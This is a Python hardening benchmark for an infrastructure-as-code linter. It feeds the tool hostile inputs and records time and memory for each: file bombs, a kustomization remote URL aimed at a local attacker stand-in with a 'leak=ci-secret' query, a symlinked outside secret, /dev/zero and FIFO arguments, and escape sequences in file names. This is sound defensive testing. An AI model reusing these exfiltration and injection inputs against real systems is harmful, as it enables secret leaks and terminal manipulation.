"""Every hostile probe of SPEC §9, each scanned alone under a memory cap: exit code, wall time, peak RSS.

The probes are the bombs of ``tests/hardening/bomb_files.py`` (each written
next to a valid Terraform file and scanned alone) and the cases that need a
command-line argument, a listener or a hidden module (below). Each run gets
its own empty cache, its own temporary folder, and an address-space cap
(``ulimit -v``, through ``RLIMIT_AS``; Go renderers such as kubectl need a
large address space, hence the default). The goal printed in the last column:
under 1 s and 200 MiB, unless the input itself is larger than 200 MiB (none
here). Peak RSS is the child's own (``wait4``).

Usage: python bench/hostile.py [--memory-cap-mib 2048] [--only NAME...]
"""

from __future__ import annotations

import argparse
import http.server
import json
import os
import resource
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests" / "hardening"))
sys.path.insert(1, str(ROOT / "tests"))

from bomb_files import BOMBS, NEIGHBOUR, write_bomb  # noqa: E402

GOAL_SECONDS = 1.0
GOAL_MIB = 200
BUCKET = 'resource "aws_s3_bucket" "b" {\n  region = "us-east-1"\n}\n'


@dataclass(frozen=True)
class Probe:
    """A hostile case: how to lay it out in a folder (given the listener URL), and the arguments."""

    name: str
    write: Callable[[Path, str], None]
    args: tuple[str, ...]
    environ: tuple[tuple[str, str], ...] = ()


def _files(files: dict[str, str]) -> Callable[[Path, str], None]:
    def write(base: Path, url: str) -> None:
        for rel, text in files.items():
            path = base / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text.replace("{url}", url), encoding="utf-8")
    return write


def _with(write: Callable[[Path, str], None], extra: Callable[[Path], None]) -> Callable[[Path, str], None]:
    def both(base: Path, url: str) -> None:
        write(base, url)
        extra(base)
    return both


def _bomb_probe(bomb: object) -> Probe:
    def write(base: Path, url: str) -> None:
        write_bomb(bomb, base / "tree")  # type: ignore[arg-type]
    return Probe(bomb.name, write, ("scan", "tree", "--format", "json"))  # type: ignore[attr-defined]


_TREE = {"tree/main.tf": BUCKET}
_HIDE_TREE_SITTER = """import importlib.util, sys
_find_spec = importlib.util.find_spec
def _hidden(name, package=None):  # as if tree-sitter were not installed
    return None if name.split(".")[0] in ("tree_sitter", "tree_sitter_hcl") else _find_spec(name, package)
importlib.util.find_spec = _hidden
class _Hide:
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in ("tree_sitter", "tree_sitter_hcl"):
            raise ModuleNotFoundError(name)
        return None
sys.meta_path.insert(0, _Hide())
"""

ARG_PROBES: tuple[Probe, ...] = (
    Probe("(floor: one valid file)", _files(_TREE), ("scan", "tree", "--format", "json")),
    Probe("kustomize-remote-to-a-listener", _files({
        "tree/kustomization.yaml": "resources:\n  - sub\n",
        "tree/sub/kustomization.yaml": "resources:\n  - {url}/exfil.yaml?leak=ci-secret\n"}),
        ("scan", "tree", "--format", "json")),
    Probe("policy-dev-zero", _files(_TREE), ("scan", "tree", "--policy", "/dev/zero")),
    Probe("baseline-dev-zero", _files(_TREE), ("scan", "tree", "--baseline", "/dev/zero")),
    Probe("var-file-fifo", _with(_files(_TREE), lambda base: os.mkfifo(base / "tree" / "pipe.tfvars")),
          ("scan", "tree", "--var-file", "tree/pipe.tfvars")),
    Probe("config-var-file-dev-zero", _files({
        **_TREE, "tree/.git/HEAD": "", "tree/.sovlint.yaml": "terraform:\n  var_files: [/dev/zero]\n"}),
        ("scan", "tree")),
    Probe("config-policy-fifo", _with(_files({**_TREE, "tree/.sovlint.yaml": "policies: [pipe.yaml]\n"}),
                                      lambda base: os.mkfifo(base / "tree" / "pipe.yaml")), ("scan", "tree")),
    Probe("tfvars-linked-to-a-secret-outside", _with(_files({
        "outside/secret.tfvars": 'token = <<EOF\nhunter2-TOPSECRET\nEOF\n= 1\n', "tree/.git/HEAD": "",
        "tree/main.tf": 'variable "token" {}\n' + BUCKET}),
        lambda base: os.symlink(base / "outside" / "secret.tfvars", base / "tree" / "terraform.tfvars")),
        ("scan", "tree", "--format", "text")),
    Probe("broken-user-catalog", _files({**_TREE, "tree/.sovlint.yaml": "catalog: [cloud.yaml]\n",
                                         "tree/cloud.yaml": "id: c\nregions:\n  - {code: a, country: [\n"}),
          ("scan", "tree")),
    Probe("bad-policy-regex", _files({"rule.yaml": (
        "id: X001\nname: bad\nseverity: low\ntitle: t\ndescription: d\nmatch:\n  address: {matches: \"(a\"}\n"
        "assert:\n  region: {equals: x}\nmessage: m\n")}), ("policy", "validate", "rule.yaml")),
    Probe("github-format-escape-in-names", _files({"tree/\x1b]0;pwned\x07\x1b[31mred.tf": BUCKET}),
          ("scan", "tree", "--format", "github")),
    Probe("treesitter-backend-missing", _files({**_TREE, "hide/sitecustomize.py": _HIDE_TREE_SITTER}),
          ("scan", "tree", "--hcl-backend", "treesitter"), (("PYTHONPATH", "hide"),)),
)


class _Listener:
    """A local HTTP server standing for an attacker's; counts the requests it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                seen.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: served}\n")

            def log_message(self, format: str, *args: object) -> None:  # noqa: A002
                return

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def _input_mib(base: Path) -> float:
    total = 0
    for folder, _, names in os.walk(base):
        for name in names:
            try:
                total += os.lstat(os.path.join(folder, name)).st_blocks * 512  # sparse files: what is stored
            except OSError:
                pass
    return total / 1024 / 1024


def run_probe(probe: Probe, cap_mib: int, listener: _Listener) -> tuple[int, float, float, float, float, str]:
    """(exit code, seconds, CPU seconds, peak RSS MiB, input MiB, what it said) of one probe."""
    with tempfile.TemporaryDirectory(prefix="sovlint-hostile-") as tmp:
        base = Path(tmp)
        probe.write(base, listener.url)
        size = _input_mib(base)
        env = {**os.environ, "NO_COLOR": "1", "SOVLINT_CACHE_DIR": str(base / ".cache"),
               "PYTHONPATH": str(ROOT)}
        env.pop("PYTHONDONTWRITEBYTECODE", None)  # as users run it: sovlint's own modules precompiled
        for key, value in probe.environ:
            env[key] = os.pathsep.join([str(base / value), env.get(key, "")])
        cap = cap_mib * 1024 * 1024

        def limit() -> None:
            resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

        start = time.monotonic()
        with open(base / ".out", "wb") as out, open(base / ".err", "wb") as err:
            args = [*probe.args, "--no-cache"] if probe.args[0] == "scan" else list(probe.args)
            child = subprocess.Popen([sys.executable, "-m", "sovlint", *args], cwd=base, env=env,
                                     stdout=out, stderr=err, stdin=subprocess.DEVNULL, preexec_fn=limit)
            _, status, usage = os.wait4(child.pid, 0)
        seconds = time.monotonic() - start
        code = os.waitstatus_to_exitcode(status)
        stdout = (base / ".out").read_text(encoding="utf-8", errors="replace")
        stderr = (base / ".err").read_text(encoding="utf-8", errors="replace")
        cpu = usage.ru_utime + usage.ru_stime
        return code, seconds, cpu, usage.ru_maxrss / 1024, size, _said(probe, stdout, stderr, listener)


def _said(probe: Probe, stdout: str, stderr: str, listener: _Listener) -> str:
    if "Traceback" in stderr:
        return "TRACEBACK " + stderr.strip().splitlines()[-1]
    notes = []
    if probe.name.startswith("kustomize"):
        notes.append(f"{len(listener.requests)} requests reached the listener")
    if "hunter2" in stdout + stderr:
        notes.append("SECRET ECHOED")
    if any(c in stdout + stderr for c in "\x1b\x07\x9b"):
        notes.append("RAW CONTROL CHARACTERS")
    try:
        doc = json.loads(stdout)
    except ValueError:
        doc = None
    if isinstance(doc, dict):
        said = [f"{f['rule']} {f['message']}" for f in sorted(doc.get("findings", []), key=lambda f: f["rule"] != "SOV900")
                if not f["path"].endswith(NEIGHBOUR[0]) and f["rule"] in ("SOV900", "SOV004")]
        said += [f"error: {e['message']}" for e in doc.get("errors", [])]
        notes.extend(said[:2])
    else:
        lines = [line for line in (stderr.strip().splitlines() or stdout.strip().splitlines()) if line]
        notes.append(" | ".join(line for line in lines if "SOV900" in line or "error" in line.lower())
                     or " | ".join(lines[:2]))
    return "; ".join(notes)


def main() -> None:
    """Run every probe (or those named) and print its cost."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--memory-cap-mib", type=int, default=2048)
    parser.add_argument("--only", nargs="*", default=None)
    options = parser.parse_args()
    probes = [*(_bomb_probe(b) for b in BOMBS), *ARG_PROBES]
    if options.only:
        probes = [p for p in probes if p.name in options.only]
    listener = _Listener()
    run_probe(ARG_PROBES[0], options.memory_cap_mib, listener)  # untimed: compiles sovlint's modules once
    print(f"memory cap (ulimit -v): {options.memory_cap_mib} MiB; goal: < {GOAL_SECONDS:g} s and < {GOAL_MIB} MiB")
    print(f"load average before: {' '.join(f'{x:.1f}' for x in os.getloadavg())}")
    print(f"{'probe':<36} {'exit':>4} {'seconds':>8} {'cpu s':>6} {'peak MiB':>9} {'input MiB':>9}  goal  said")
    for probe in probes:
        code, seconds, cpu, mib, size, said = run_probe(probe, options.memory_cap_mib, listener)
        met = seconds < GOAL_SECONDS and mib < GOAL_MIB or size > GOAL_MIB
        print(f"{probe.name:<36} {code:>4} {seconds:>8.2f} {cpu:>6.2f} {mib:>9.1f} {size:>9.1f}  "
              f"{'met ' if met else 'MISS'}  {said.replace(chr(10), ' ')[:150]}", flush=True)


if __name__ == "__main__":
    main()
